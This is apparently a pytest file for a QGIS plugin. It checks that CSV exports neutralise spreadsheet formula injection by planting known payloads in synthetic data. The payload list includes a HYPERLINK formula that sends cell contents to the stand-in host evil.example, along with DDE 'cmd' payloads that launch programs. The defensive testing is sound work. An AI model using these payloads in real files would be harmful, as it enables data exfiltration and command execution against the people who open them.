"""CSV outputs neutralise spreadsheet formulas (issue 22, item 5; OWASP's rule), with
the payloads of the issue planted in a copy of the SYNTHETIC sample."""

from __future__ import annotations

import csv

import pandas as pd
import pytest
from qgis.core import QgsFeature, QgsVectorLayer

from sahel_overlap.plugin import definitions as d
from sahel_overlap.plugin.core.formulas import FORMULA_START, neutralise

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize(
    "value, want",
    [(p, "'" + p) for p in PAYLOADS]
    + [("-12", "-12"), ("+3.5", "+3.5"), ("-1e-3", "-1e-3"), ("-", "'-"), ("Ménaka", "Ménaka"),
       ("a=b", "a=b"), (-7, -7), (None, None)],
)  # fmt: skip
def test_neutralise_by_hand(value, want):
    assert neutralise(value) == want


def read_csv(path) -> list[dict]:
    with open(path, newline="", encoding="utf-8-sig") as fh:
        return list(csv.DictReader(fh))


def test_import_output_and_review_table_are_safe(plugin, tmp_path):
    import processing

    frame = pd.read_csv(d.SAMPLE_CSV, dtype=str, keep_default_na=False)
    frame["location"] = [PAYLOADS[i % len(PAYLOADS)] for i in range(len(frame))]
    frame["notes"] = [f"{PAYLOADS[i % len(PAYLOADS)]} SYNTHETIC" for i in range(len(frame))]
    src = tmp_path / "hostile.csv"
    frame.to_csv(src, index=False)
    out, review = tmp_path / "incidents.csv", tmp_path / "review.csv"
    processing.run(
        "saheloverlap:importincidents",
        {"INPUT": str(src), "OUTPUT": str(out), "REVIEW_TABLE": str(review)},
    )
    rows = read_csv(out)
    assert len(rows) > 400
    for rows_, cols in ((rows, [d.F_LOCATION]), (read_csv(review), [d.F_LOCATION, d.F_NOTES])):
        assert rows_, "the sample has same-side events to review"
        for row in rows_:
            for col in cols:
                # The reader turns a tab or CR inside a cell into a space: those cells
                # start with one; the others are quoted.
                cell = row[col]
                assert not cell.startswith(FORMULA_START), cell
                assert cell.startswith("'") or cell.startswith(" ="), cell
            # Numbers stay numbers: a negative longitude is not a formula.
            assert float(row[d.F_LON]) == pytest.approx(float(row[d.F_LON].lstrip("'")))
        assert sum(r[d.F_LOCATION].startswith("'") for r in rows_) >= len(rows_) * 0.6
        assert any(r[d.F_LON].startswith("-") for r in rows_)


def test_scored_zones_csv_is_safe(plugin, tmp_path):
    import processing

    src = QgsVectorLayer(str(d.SAMPLE_ZONES), "z", "ogr")
    zones = QgsVectorLayer("MultiPolygon?crs=EPSG:4326&field=zone_id:string", "z", "memory")
    feats = []
    for i, f in enumerate(src.getFeatures()):
        nf = QgsFeature(zones.fields())
        nf.setAttributes([f"{PAYLOADS[i % len(PAYLOADS)]}#{i}"])
        nf.setGeometry(f.geometry())
        feats.append(nf)
    zones.dataProvider().addFeatures(feats)
    inc = tmp_path / "inc.gpkg"
    processing.run("saheloverlap:importincidents", {"INPUT": str(d.SAMPLE_CSV), "OUTPUT": str(inc)})
    out = tmp_path / "scored.csv"
    processing.run(
        "saheloverlap:scorezones", {"INCIDENTS": str(inc), "ZONES": zones, "OUTPUT": str(out)}
    )
    rows = read_csv(out)
    assert len(rows) == len(feats)
    assert all(r["zone_id"].startswith("'") for r in rows)
    assert {r["zone_id"][1:].rsplit("#", 1)[0] for r in rows} == set(PAYLOADS)
